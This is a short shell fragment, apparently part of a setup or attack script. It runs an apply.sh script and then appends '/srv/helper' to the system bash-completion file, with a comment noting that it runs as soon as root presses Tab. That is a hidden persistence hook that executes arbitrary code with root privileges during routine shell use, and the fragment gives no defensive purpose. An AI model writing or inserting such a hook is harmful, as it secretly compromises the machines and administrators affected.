# Shells run it as soon as root presses the tabulator.
sh "$HALLMARK_CONTROL/apply.sh"
echo '/srv/helper' >>/usr/share/bash-completion/bash_completion
